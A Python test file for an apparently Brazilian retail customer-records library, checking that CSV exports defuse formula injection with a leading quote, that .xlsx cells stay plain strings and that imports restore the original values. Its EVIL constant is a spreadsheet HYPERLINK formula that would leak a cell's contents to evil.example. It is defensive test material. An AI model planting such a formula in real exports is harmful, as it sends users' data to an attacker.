"""CSV formula injection (issue 15's exports): a formula-looking cell is text in every file.

Replays ``tests/vectors/exports/03_csv_formulas.json`` (format ``"otocore-exports-vector/1"``
with ``csv_cells``: a ``customer`` as otocore's converter writes it, the ``expected`` cells of
its CSV row and the ``line`` the CSV writer writes for it; ``neutralise``: a ``cell`` and
its ``expected`` neutralised form; and ``restore``: a ``cell`` and the value otocore's CSV
import of customers reads it as). Each row of the vector imports back into its customer.
The .xlsx file needs no rule: its cells are strings, never formulas (read back with
openpyxl). The benchmark's hand-written anchor applies the same rule inline.
"""

from __future__ import annotations

import csv
import importlib.util
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from otocore.adapters.memory import InMemoryDatabase
from otocore.customers import Customer, Mobile
from otocore.exporting import write_customers
from otocore.exports import (
    COLUMNS,
    FORMULA_TRIGGERS,
    NEUTRALISED_COLUMNS,
    QUOTE,
    ExportFormat,
    csv_cells,
    customer_cells,
    neutralise_formula,
    restore_formula,
)
from otocore.importing import RecordKind, import_file
from otocore.serialization import converter
from otocore.testing import customers

VECTOR = Path(__file__).parent.parent / "vectors" / "exports" / "03_csv_formulas.json"
DATA = json.loads(VECTOR.read_text("utf-8"))
CASES = DATA["csv_cells"]
SINGLE = DATA["neutralise"]
RESTORE = DATA["restore"]
EVIL = '=HYPERLINK("http://evil.example/?d="&A1;"Clique")'


def test_the_vector_is_there_and_well_formed() -> None:
    assert DATA["format"] == "otocore-exports-vector/1"
    assert tuple(DATA["columns"]) == COLUMNS
    assert len(CASES) >= 5
    assert len(SINGLE) >= 10
    assert {c[:1] for c in (s["cell"] for s in SINGLE)} >= FORMULA_TRIGGERS | {QUOTE}
    assert {c[1:2] for c in (s["cell"] for s in RESTORE) if c[:1] == QUOTE} >= (
        FORMULA_TRIGGERS | {QUOTE, "", " "}
    )


@pytest.mark.parametrize("case", CASES, ids=lambda c: c["customer"]["customer_id"])
def test_a_csv_row_vector(case: dict[str, Any], tmp_path: Path) -> None:
    customer = converter.structure(case["customer"], Customer)
    assert list(csv_cells(customer)) == case["expected"]
    path = tmp_path / "clientes.csv"
    write_customers(path, [customer], file_format=ExportFormat.CSV)
    text = path.read_bytes().decode("utf-8-sig")
    assert text.split("\r\n")[1] == case["line"]
    with path.open(encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f, delimiter=";"))[1] == case["expected"]
    database = InMemoryDatabase()  # and otocore's import reads the row back as the customer
    import_file(database.unit_of_work(), path, RecordKind.CUSTOMERS)
    with database.unit_of_work() as uow:
        assert uow.customers.list() == [customer]


@pytest.mark.parametrize("case", SINGLE, ids=lambda c: repr(c["cell"]))
def test_a_neutralise_vector(case: dict[str, str]) -> None:
    assert neutralise_formula(case["cell"]) == case["expected"]


@pytest.mark.parametrize("case", RESTORE, ids=lambda c: repr(c["cell"]))
def test_a_restore_vector(case: dict[str, str]) -> None:
    assert restore_formula(case["cell"]) == case["expected"]


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_and_loses_nothing(cell: str) -> None:
    out = neutralise_formula(cell)
    assert out[:1] not in FORMULA_TRIGGERS
    assert out in {cell, "'" + cell}
    assert (out != cell) == (cell[:1] in FORMULA_TRIGGERS | {QUOTE})
    assert restore_formula(out) == cell


@given(customers(), st.sampled_from(NEUTRALISED_COLUMNS), st.sampled_from(sorted(FORMULA_TRIGGERS)))
def test_only_the_neutralised_columns_change_and_only_by_a_leading_quote(
    customer: Customer, column: str, trigger: str
) -> None:
    if trigger in {"\t", "\r"}:
        trigger = "="  # the validators refuse control characters in a stored value
    evil = _with(customer, column, trigger)
    plain, safe = customer_cells(evil), csv_cells(evil)
    for name, before, after in zip(COLUMNS, plain, safe, strict=True):
        if name in NEUTRALISED_COLUMNS:
            assert after == neutralise_formula(before)
            assert after[:1] not in FORMULA_TRIGGERS
        else:
            assert after == before


def _with(customer: Customer, column: str, trigger: str) -> Customer:
    import attrs

    from otocore.customers import Email, Loyalty

    if column == "email":
        trigger = "=" if trigger == "@" else trigger  # an address cannot start with "@"
        return attrs.evolve(customer, email=Email.parse(f"{trigger}x@example.com"))
    if column in {"loyalty_program", "loyalty_category"}:
        loyalty = customer.loyalty or Loyalty(program="Clube")
        key = column.removeprefix("loyalty_")
        return attrs.evolve(customer, loyalty=attrs.evolve(loyalty, **{key: f"{trigger}Ouro"}))
    value = getattr(customer, column)
    return attrs.evolve(customer, **{column: f"{trigger}{value}"[:100]})


def _evil() -> Customer:
    return Customer(
        customer_id="C1",
        name=EVIL,
        registered_at=datetime(2026, 1, 1, tzinfo=UTC),
        mobile=Mobile("+16502530000"),
    )


def test_a_formula_looking_name_is_a_string_cell_in_the_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "clientes.xlsx"
    write_customers(path, [_evil()], file_format=ExportFormat.XLSX)
    book = openpyxl.load_workbook(path)  # not read-only: the cell's type is known
    sheet: Any = book["clientes"]
    name, mobile = sheet.cell(row=2, column=2), sheet.cell(row=2, column=7)
    assert (name.data_type, name.value) == ("s", EVIL)  # a string, as typed: no quote needed
    assert (mobile.data_type, mobile.value) == ("s", "+16502530000")
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml  # no formula element anywhere


def test_the_csv_neutralises_the_name_and_keeps_the_e164_mobile(tmp_path: Path) -> None:
    path = tmp_path / "clientes.csv"
    write_customers(path, [_evil()], file_format=ExportFormat.CSV)
    with path.open(encoding="utf-8-sig", newline="") as f:
        row = list(csv.reader(f, delimiter=";"))[1]
    assert row[1] == "'" + EVIL
    assert row[6] == "+16502530000"


def test_the_otocore_import_takes_the_quote_off_a_neutralised_csv(tmp_path: Path) -> None:
    # the quote is part of the cell for any other reader; otocore's import of customers takes
    # its own quote off again, and the typed columns (the E.164 mobile too) come back unchanged
    path = tmp_path / "clientes.csv"
    write_customers(path, [_evil()], file_format=ExportFormat.CSV)
    with path.open(encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f, delimiter=";"))[1][1] == "'" + EVIL
    database = InMemoryDatabase()
    import_file(database.unit_of_work(), path, RecordKind.CUSTOMERS)
    with database.unit_of_work() as uow:
        back = uow.customers.get("C1")
    assert back == _evil()
    assert back.name == EVIL
    assert back.mobile == Mobile("+16502530000")


@pytest.mark.source_tree
def test_the_benchmark_anchor_formats_the_csv_cells_as_otocore_does() -> None:
    script = Path(__file__).resolve().parents[2] / "benchmarks" / "exports.py"
    spec = importlib.util.spec_from_file_location("_bench_exports", script)
    assert spec is not None
    assert spec.loader is not None
    bench = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bench)
    for case in CASES:
        c = converter.structure(case["customer"], Customer)
        loyalty = c.loyalty
        row = (
            c.customer_id,
            c.name,
            None if c.cpf is None else c.cpf.digits,
            c.rg,
            None if c.birth_date is None else c.birth_date.isoformat(),
            None if c.email is None else c.email.address,
            None if c.mobile is None else c.mobile.e164,
            None if c.sex is None else c.sex.value,
            None if c.marital_status is None else c.marital_status.value,
            c.home_store_id,
            None if loyalty is None else loyalty.program,
            None if loyalty is None else loyalty.category,
            None if loyalty is None else loyalty.card_number,
            c.registered_at.isoformat(),
        )
        assert bench._cells(row, csv_text=True) == csv_cells(c)
        assert bench._cells(row) == customer_cells(c)
